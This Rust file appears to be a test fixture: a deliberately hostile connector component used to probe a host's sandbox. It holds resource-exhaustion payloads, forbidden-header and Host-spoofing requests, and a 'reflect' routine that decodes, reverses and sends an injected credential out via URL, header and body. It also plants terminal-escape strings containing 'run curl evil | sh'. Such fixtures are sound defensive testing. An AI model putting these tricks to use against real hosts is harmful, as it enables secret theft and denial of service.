//! A hostile connector written straight against `wit/` with wit-bindgen, as an outside attacker would
//! (the SDK would refuse some of this). What it does is chosen two ways:
//!
//! - `describe` returns the description named by [`DESCRIBE_AS`], 64 bytes the tests patch in a copy
//!   of the built component (`normal`, or an install-time attack: `case-entities`, `case-fields`,
//!   `id-field`, `sqlite-entity`, `wide`, `many-entities`, `entities-N`, `huge-description`, the
//!   `limits-*` request limits of its `request_limits`, the `search-*` fields of its
//!   `searchable_fields`, the `versions-*` groups of its `field_versions`, the `owns-*` collections
//!   of its `owned_collections` and the `scoped-*` feeds of its `scoped_feeds`);
//! - every other call does what the installation's `attack` config says (see [`Rogue::attack`]).

use std::cell::RefCell;

/// The bindings of `wit/`, generated as an outside author would.
mod bindings {
    #![allow(missing_docs, reason = "generated code; the WIT file documents every item")]
    wit_bindgen::generate!({ world: "connector", path: "../../../wit" });
}

use bindings::export;
use bindings::exports::max::connector::source::Guest;
use bindings::max::connector::discovery::{DiscoveredFields, SchemaExtension};
use bindings::max::connector::ownership::OwnedCollection;
use bindings::max::connector::pacing::RequestLimit;
use bindings::max::connector::scoping::ScopedFeed;
use bindings::max::connector::text_search::SearchableField;
use bindings::max::connector::types::*;
use bindings::max::connector::versioned::VersionedFields;
use bindings::max::connector::{http, log};

/// Which description `describe` returns: the tests replace the word after the colon (space padded).
#[used]
static DESCRIBE_AS: [u8; 64] = *b"MAX-ROGUE-DESCRIBE:normal                                       ";

fn describe_as() -> String {
    // A volatile read: the optimiser may not assume the bytes it was built with.
    let bytes = unsafe { std::ptr::read_volatile(&DESCRIBE_AS) };
    String::from_utf8_lossy(&bytes[19..]).trim().to_string()
}

thread_local! {
    static CONFIG: RefCell<Vec<(String, String)>> = const { RefCell::new(Vec::new()) };
}

fn config(key: &str) -> String {
    CONFIG.with(|c| c.borrow().iter().find(|(k, _)| k == key).map(|(_, v)| v.clone()).unwrap_or_default())
}

fn field(name: &str, type_: FieldType) -> FieldDef {
    FieldDef { name: name.to_string(), type_, description: None }
}

fn entity(name: &str, fields: Vec<FieldDef>) -> EntityDef {
    EntityDef { name: name.to_string(), description: None, fields }
}

fn loader(name: &str, entity: &str, kind: LoaderKind) -> LoaderDef {
    LoaderDef { name: name.to_string(), entity: entity.to_string(), kind, description: None }
}

fn input(key: &str, required: bool) -> InputStep {
    InputStep {
        key: key.to_string(),
        label: key.to_string(),
        help: None,
        default_value: None,
        required,
        shown_when: None,
    }
}

/// The description every variant starts from: a `Root` whose `items` collection holds `Item`s, a
/// batched loader, a collection loader, a change feed; credentials injected as a header and as a
/// query parameter.
fn normal() -> ConnectorInfo {
    let item_fields = vec![
        field("text", FieldType::String),
        field("data", FieldType::Json),
        field("score", FieldType::Float),
        field("root", FieldType::Ref("Root".to_string())),
    ];
    let collection = CollectionLoader {
        parent: "Root".to_string(),
        field: "items".to_string(),
        page_size: 10,
        parent_field: Some("root".to_string()),
    };
    ConnectorInfo {
        name: "rogue".to_string(),
        version: "0.1.0".to_string(),
        description: "Attacks the host from outside the SDK (tests only)".to_string(),
        schema: Schema {
            entities: vec![
                entity("Root", vec![field("items", FieldType::Collection("Item".to_string()))]),
                entity("Item", item_fields),
            ],
            roots: vec![RootDef { entity: "Root".to_string(), id: "root".to_string() }],
        },
        loaders: vec![
            loader("items-by-id", "Item", LoaderKind::Batched(50)),
            loader("root-items", "Item", LoaderKind::Collection(collection)),
            loader("item-feed", "Item", LoaderKind::ChangeFeed),
        ],
        resolvers: vec![Resolver {
            entity: "Item".to_string(),
            fields: vec!["text".to_string(), "data".to_string(), "score".to_string()],
            loader: "items-by-id".to_string(),
        }],
        onboarding: vec![
            OnboardingStep::Input(input("base_url", true)),
            OnboardingStep::Input(input("attack", false)),
            OnboardingStep::Secret(input("token", true)),
            OnboardingStep::Secret(input("key", true)),
        ],
        permissions: Permissions {
            hosts: vec![HostPermission { host: "rogue.example".to_string(), path_prefix: None }],
            credentials: vec![
                CredentialDef {
                    name: "token".to_string(),
                    injection: CredentialInjection::Header("X-Token".to_string()),
                    hosts: Vec::new(),
                },
                CredentialDef {
                    name: "key".to_string(),
                    injection: CredentialInjection::Query("key".to_string()),
                    hosts: Vec::new(),
                },
            ],
            base_url_key: Some("base_url".to_string()),
            resources: ResourceNeeds { memory_mib: None, call_timeout_ms: None },
        },
    }
}

/// The description `variant` names.
fn described(variant: &str) -> ConnectorInfo {
    let mut info = normal();
    let entities = &mut info.schema.entities;
    match variant {
        "case-entities" => entities.extend([entity("Probe", Vec::new()), entity("PROBE", Vec::new())]),
        "case-fields" => {
            entities[1].fields.extend([field("result", FieldType::String), field("RESULT", FieldType::String)])
        }
        "id-field" => entities[1].fields.push(field("ID", FieldType::String)),
        "sqlite-entity" => entities.push(entity("sqlite_stat1", Vec::new())),
        "wide" => entities[1].fields.extend((0..10_000).map(|n| field(&format!("f{n}"), FieldType::String))),
        "many-entities" => entities.extend((0..50_000).map(|n| entity(&format!("E{n}"), Vec::new()))),
        "huge-description" => info.description = "x".repeat(64 << 20),
        "search-many" => entities[1].fields.extend((0..40).map(|n| field(&format!("t{n}"), FieldType::String))),
        "no-root" => info.schema.roots.clear(),
        other => {
            // `entities-N`: N more entity types without fields.
            let extra: usize = other.strip_prefix("entities-").and_then(|n| n.parse().ok()).unwrap_or(0);
            entities.extend((0..extra).map(|n| entity(&format!("E{n}"), Vec::new())));
        }
    }
    info
}

/// Packs rows the way `wit/types.wit` specifies, with nothing checked.
#[derive(Default)]
struct Packer {
    data: Vec<u8>,
    text: String,
    rows: u32,
}

impl Packer {
    fn varint(&mut self, mut value: u64) {
        loop {
            let byte = (value & 0x7f) as u8;
            value >>= 7;
            if value == 0 {
                self.data.push(byte);
                return;
            }
            self.data.push(byte | 0x80);
        }
    }

    fn span(&mut self, text: &str) {
        self.varint(text.len() as u64);
        self.text.push_str(text);
    }

    /// Column `column` as text (tag 1), JSON (7) or a float (3).
    fn text(&mut self, column: u64, tag: u8, text: &str) {
        self.varint(column);
        self.data.push(tag);
        self.span(text);
    }

    fn float(&mut self, column: u64, value: f64) {
        self.varint(column);
        self.data.push(3);
        self.data.extend_from_slice(&value.to_le_bytes());
    }

    fn end_row(&mut self, id: &str) {
        self.span(id);
        self.rows += 1;
    }

    fn batch(self, entity: &str, columns: &[&str]) -> EntityBatch {
        EntityBatch {
            entity: entity.to_string(),
            columns: columns.iter().map(|c| c.to_string()).collect(),
            row_count: self.rows,
            data: self.data,
            text: self.text,
        }
    }
}

/// One `Item` with this `text`.
fn item(id: &str, text: &str) -> EntityBatch {
    let mut packer = Packer::default();
    packer.text(0, 1, text);
    packer.end_row(id);
    packer.batch("Item", &["text"])
}

fn get(path: &str, credential: Option<&str>) -> Result<http::Response, http::HttpError> {
    send(http::Method::Get, path, Vec::new(), None, credential)
}

fn send(
    method: http::Method,
    path: &str,
    headers: Vec<(String, String)>,
    body: Option<Vec<u8>>,
    credential: Option<&str>,
) -> Result<http::Response, http::HttpError> {
    let url = format!("{}{path}", config("base_url"));
    http::send(&http::Request {
        method,
        url,
        headers,
        body,
        credential: credential.map(str::to_string),
        timeout_ms: None,
    })
}

fn outcome(result: Result<http::Response, http::HttpError>) -> String {
    match result {
        Ok(response) => format!("HTTP {}", response.status),
        Err(error) => format!("refused: {error:?}"),
    }
}

fn from_hex(hex: &str) -> String {
    let bytes: Vec<u8> =
        (0..hex.len() / 2).filter_map(|i| u8::from_str_radix(hex.get(i * 2..i * 2 + 2)?, 16).ok()).collect();
    String::from_utf8_lossy(&bytes).into_owned()
}

struct Rogue;

impl Rogue {
    /// What `load` does for the attack the installation's config names.
    fn attack(attack: &str, id: &str) -> Result<Vec<EntityBatch>, ConnectorError> {
        Ok(match attack {
            // Asks to wait 584 million years before a retry.
            "sleep-forever" => return Err(ConnectorError::RateLimited(Some(u64::MAX))),
            "big-id" => vec![item(&"i".repeat(1 << 20), "an id of a mebibyte")],
            "deep-json" => {
                let mut packer = Packer::default();
                packer.text(0, 7, &format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)));
                packer.end_row(id);
                vec![packer.batch("Item", &["data"])]
            }
            "long-text" => vec![item(id, &format!("{}END", "long ".repeat(14_000)))],
            "nan" | "infinity" => {
                let mut packer = Packer::default();
                packer.float(0, if attack == "nan" { f64::NAN } else { f64::INFINITY });
                packer.end_row(id);
                vec![packer.batch("Item", &["score"])]
            }
            "empty-rows" => {
                // Five million rows without columns: a few bytes each on the wire.
                let mut packer = Packer::default();
                for n in 0..5_000_000 {
                    packer.end_row(&format!("r{n}"));
                }
                vec![packer.batch("Item", &[])]
            }
            "exit" => std::process::exit(3),
            "forbidden-headers" => {
                let mut seen = Vec::new();
                for name in [
                    "Host",
                    "Connection",
                    "Content-Length",
                    "Transfer-Encoding",
                    "Upgrade",
                    "Proxy-Authorization",
                    "Sec-Fetch-Site",
                    "Cookie",
                ] {
                    let value = if name == "Host" { "victim.example" } else { "1" };
                    let result =
                        send(http::Method::Get, "/headers", vec![(name.to_string(), value.to_string())], None, None);
                    seen.push(format!("{name}: {}", outcome(result)));
                }
                vec![item(id, &seen.join("; "))]
            }
            "reflect" => {
                // The server echoes the secret it was sent: as is, and hex-encoded.
                let echo = get("/echo", Some("token")).map_err(|e| ConnectorError::Other(format!("{e:?}")))?;
                let body = String::from_utf8_lossy(&echo.body).into_owned();
                let (plain, hex) = body.split_once('\n').unwrap_or((&body, ""));
                let decoded = from_hex(hex.trim());
                log::log(log::Level::Warn, &format!("the server said {decoded}"));
                // Reversed, a plain echo would slip past any redaction of what is stored.
                let reversed: String = plain.chars().rev().collect();
                let in_url = outcome(get(&format!("/collect?stolen={decoded}"), None));
                let in_header = outcome(send(
                    http::Method::Get,
                    "/collect",
                    vec![("X-Stolen".to_string(), decoded.clone())],
                    None,
                    None,
                ));
                let in_body =
                    outcome(send(http::Method::Post, "/collect", Vec::new(), Some(decoded.clone().into_bytes()), None));
                vec![
                    item("reversed", &reversed),
                    item("decoded", &decoded),
                    item("sent", &format!("url {in_url}; header {in_header}; body {in_body}")),
                ]
            }
            _ => vec![item(id, &format!("probed {id}"))],
        })
    }
}

impl Guest for Rogue {
    fn describe() -> ConnectorInfo {
        described(&describe_as())
    }

    /// Request limits past the contract's bounds, chosen like the description: `limits-many` (17),
    /// `limits-zero` (none allowed: every matching request would wait forever), `limits-forever` (an
    /// interval of 100 hours), `limits-escape` (terminal escapes in a name), `limits-huge` (80 MiB of
    /// names); none otherwise.
    fn request_limits() -> Vec<RequestLimit> {
        let limit = |name: &str, max: u32, interval_ms: u32| RequestLimit {
            name: name.to_string(),
            method: None,
            path: "/items".to_string(),
            max,
            interval_ms,
        };
        match describe_as().as_str() {
            "limits-many" => (0..17).map(|n| limit(&format!("limit {n}"), 1, 1000)).collect(),
            "limits-zero" => vec![limit("nothing", 0, 1000)],
            "limits-forever" => vec![limit("slow", 1, 360_000_000)],
            "limits-escape" => vec![limit("\u{1b}[2J\u{1b}[31mrun curl evil | sh", 1, 1000)],
            "limits-huge" => (0..20_000).map(|_| limit(&"x".repeat(4 << 10), 1, 1000)).collect(),
            _ => Vec::new(),
        }
    }

    /// `Item.text` normally; searchable fields past the contract's bounds as the description names:
    /// `search-stranger` (an undeclared entity), `search-number` (a float field), `search-twice`,
    /// `search-weightless` (weight 0), `search-many` (40 on `Item`), `search-huge` (80 MiB of names).
    fn searchable_fields() -> Vec<SearchableField> {
        let on = |entity: &str, field: &str, weight: u8| SearchableField {
            entity: entity.to_string(),
            field: field.to_string(),
            weight,
        };
        match describe_as().as_str() {
            "search-stranger" => vec![on("Ghost", "text", 1)],
            "search-number" => vec![on("Item", "score", 1)],
            "search-twice" => vec![on("Item", "text", 1), on("Item", "text", 5)],
            "search-weightless" => vec![on("Item", "text", 0)],
            "search-many" => (0..40).map(|n| on("Item", &format!("t{n}"), 1)).collect(),
            "search-huge" => (0..20_000).map(|_| on("Item", &"x".repeat(4 << 10), 1)).collect(),
            _ => vec![on("Item", "text", 1)],
        }
    }

    /// None normally; groups past the contract's bounds as the description names: `versions-stranger`
    /// (an undeclared entity), `versions-missing` (an undeclared version field), `versions-self` (a
    /// field versioned by itself), `versions-unloaded` (no batched loader fills it), `versions-empty`
    /// (no fields), `versions-huge` (80 MiB of names).
    fn field_versions() -> Vec<VersionedFields> {
        let group = |entity: &str, fields: &[&str], versions: &[&str]| VersionedFields {
            entity: entity.to_string(),
            fields: fields.iter().map(|f| f.to_string()).collect(),
            versions: versions.iter().map(|f| f.to_string()).collect(),
        };
        match describe_as().as_str() {
            "versions-stranger" => vec![group("Ghost", &["data"], &["score"])],
            "versions-missing" => vec![group("Item", &["data"], &["revision"])],
            "versions-self" => vec![group("Item", &["data"], &["data"])],
            "versions-unloaded" => vec![group("Item", &["root"], &["score"])],
            "versions-empty" => vec![group("Item", &[], &["score"])],
            "versions-huge" => {
                let name = "x".repeat(4 << 10);
                (0..20_000).map(|_| group("Item", &[name.as_str()], &["score"])).collect()
            }
            _ => Vec::new(),
        }
    }

    /// None normally; collections the host couldn't keep as the description names:
    /// `owns-stranger` (an undeclared field), `owns-scalar` (a field that is no collection),
    /// `owns-twice`.
    fn owned_collections() -> Vec<OwnedCollection> {
        let owned =
            |entity: &str, field: &str| OwnedCollection { entity: entity.to_string(), field: field.to_string() };
        match describe_as().as_str() {
            "owns-stranger" => vec![owned("Root", "ghosts")],
            "owns-scalar" => vec![owned("Item", "text")],
            "owns-twice" => vec![owned("Root", "items"), owned("Root", "items")],
            _ => Vec::new(),
        }
    }

    /// `scoped-root` (a well-formed one: `item-feed` per `Root`), `scoped-stranger` (an undeclared
    /// loader), `scoped-collection` (a loader that is no change feed), `scoped-nowhere` (an undeclared
    /// entity), `scoped-twice`, `scoped-many` (17).
    fn scoped_feeds() -> Vec<ScopedFeed> {
        let scoped = |loader: &str, entity: &str| ScopedFeed { loader: loader.to_string(), entity: entity.to_string() };
        match describe_as().as_str() {
            "scoped-root" => vec![scoped("item-feed", "Root")],
            "scoped-stranger" => vec![scoped("ghost-feed", "Item")],
            "scoped-collection" => vec![scoped("root-items", "Root")],
            "scoped-nowhere" => vec![scoped("item-feed", "Ghost")],
            "scoped-twice" => vec![scoped("item-feed", "Root"), scoped("item-feed", "Item")],
            "scoped-many" => (0..17).map(|_| scoped("item-feed", "Root")).collect(),
            _ => Vec::new(),
        }
    }

    fn initialise(config: Config, _discovered: SchemaExtension) -> Result<(), ConnectorError> {
        CONFIG.with(|c| *c.borrow_mut() = config);
        Ok(())
    }

    /// `discover-ok`: `Item.note`; `discover-refill`: `Item.tag`, asking for rows to be read again;
    /// the rest break a promise of `discovery`: `discover-many` (2,001
    /// fields), `discover-collide` (`TEXT` beside the declared `text`), `discover-stranger` (fields of
    /// an undeclared entity), `discover-escape` (terminal escapes in a description), `discover-long-name`
    /// (a name of 129 bytes), `discover-huge` (80 MiB of descriptions).
    fn discover() -> Result<SchemaExtension, ConnectorError> {
        let on_item = |fields| vec![DiscoveredFields { entity: "Item".to_string(), fields }];
        let described = |name: &str, description: String| FieldDef {
            name: name.to_string(),
            type_: FieldType::String,
            description: Some(description),
        };
        let entities = match config("attack").as_str() {
            "discover-ok" => on_item(vec![field("note", FieldType::String)]),
            "discover-refill" => on_item(vec![field("tag", FieldType::String)]),
            "discover-many" => on_item((0..2001).map(|n| field(&format!("c{n}"), FieldType::Integer)).collect()),
            "discover-collide" => on_item(vec![field("TEXT", FieldType::String)]),
            "discover-stranger" => {
                vec![DiscoveredFields { entity: "Ghost".to_string(), fields: vec![field("x", FieldType::String)] }]
            }
            "discover-escape" => on_item(vec![described("note", "\u{1b}[2J\u{1b}[31mrun curl evil | sh".to_string())]),
            "discover-long-name" => on_item(vec![field(&"n".repeat(129), FieldType::String)]),
            "discover-huge" => on_item((0..2000).map(|n| described(&format!("c{n}"), "x".repeat(40 << 10))).collect()),
            _ => Vec::new(),
        };
        Ok(SchemaExtension { entities, refill_on_new_fields: config("attack") == "discover-refill" })
    }

    fn validate() -> Result<String, ConnectorError> {
        Ok("rogue".to_string())
    }

    fn select_options(_key: String) -> Result<Vec<SelectOption>, ConnectorError> {
        Ok(Vec::new())
    }

    fn seed(_state: SeedState) -> Result<SyncPlan, ConnectorError> {
        let step = match config("attack").as_str() {
            "pages" | "pages-same" | "big-cursor" => {
                Step { target: Target::Root, operation: Operation::LoadCollection("items".to_string()) }
            }
            "feed" => Step { target: Target::Root, operation: Operation::FollowChanges("item-feed".to_string()) },
            _ => Step {
                target: Target::One(EntityRef { entity: "Item".to_string(), id: "i1".to_string() }),
                operation: Operation::LoadFields(vec!["text".to_string()]),
            },
        };
        Ok(SyncPlan { groups: vec![vec![step]] })
    }

    fn load(_loader: String, refs: Vec<EntityRef>) -> Result<Vec<EntityBatch>, ConnectorError> {
        let id = refs.first().map(|r| r.id.clone()).unwrap_or_default();
        Rogue::attack(&config("attack"), &id)
    }

    /// `pages`: every page new items and a new cursor, forever; `pages-same`: the same items under
    /// ever-new cursors; `big-cursor`: a next cursor of 2 MiB.
    fn load_page(_loader: String, _parent: EntityRef, cursor: Option<String>) -> Result<Page, ConnectorError> {
        let page: u64 =
            cursor.as_deref().and_then(|c| c.strip_prefix("page-")).and_then(|n| n.parse().ok()).unwrap_or(0);
        let attack = config("attack");
        let mut packer = Packer::default();
        for n in 0..10 {
            let id = if attack == "pages-same" { format!("same-{n}") } else { format!("p{page}-{n}") };
            packer.text(0, 1, "paged");
            packer.end_row(&id);
        }
        let next_cursor = if attack == "big-cursor" { "c".repeat(2 << 20) } else { format!("page-{}", page + 1) };
        Ok(Page { items: packer.batch("Item", &["text"]), related: Vec::new(), next_cursor: Some(next_cursor) })
    }

    /// Always more, never a change, always a new cursor.
    fn changes(_loader: String, cursor: Option<String>) -> Result<ChangePage, ConnectorError> {
        let n: u64 = cursor.as_deref().and_then(|c| c.parse().ok()).unwrap_or(0);
        Ok(ChangePage { upserts: Vec::new(), deletions: Vec::new(), next_cursor: (n + 1).to_string(), has_more: true })
    }

    fn changes_of(loader: String, _parent: EntityRef, cursor: Option<String>) -> Result<ChangePage, ConnectorError> {
        Self::changes(loader, cursor)
    }
}

export!(Rogue with_types_in bindings);
